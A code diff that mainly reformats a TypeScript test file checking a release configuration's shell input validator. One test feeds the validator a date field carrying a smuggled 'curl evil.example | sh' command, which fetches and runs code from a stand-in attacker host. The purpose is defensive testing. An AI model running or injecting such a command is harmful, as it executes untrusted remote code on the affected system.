@@ -22,7 +22,8 @@ function runScripts(yaml: string): string[] {
       continue;
     }
     const body: string[] = [];
-    while (i + 1 < lines.length && (lines[i + 1]!.trim() === '' || lines[i + 1]!.search(/\S/) > indent)) body.push(lines[++i]!);
+    while (i + 1 < lines.length && (lines[i + 1]!.trim() === '' || lines[i + 1]!.search(/\S/) > indent))
+      body.push(lines[++i]!);
     scripts.push(body.join('\n'));
   }
   return scripts;
@@ -47,7 +48,10 @@ describe('release configuration', () => {
 
   it('the input check accepts a date and known sources, and refuses anything else before it reaches a command', () => {
     const check = (env: Record<string, string>) =>
-      spawnSync('bash', [path.join(root, 'scripts/check-feed-inputs.sh')], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '', ...env } });
+      spawnSync('bash', [path.join(root, 'scripts/check-feed-inputs.sh')], {
+        encoding: 'utf8',
+        env: { PATH: process.env.PATH ?? '', ...env },
+      });
     expect(check({ SINCE: '', ACCEPT_SHRINK: '' }).status).toBe(0);
     expect(check({ SINCE: '2026-01-31', ACCEPT_SHRINK: 'kr-safetykorea us-cpsc' }).status).toBe(0);
     const injected = check({ SINCE: '2026-01-31; curl evil.example | sh' });
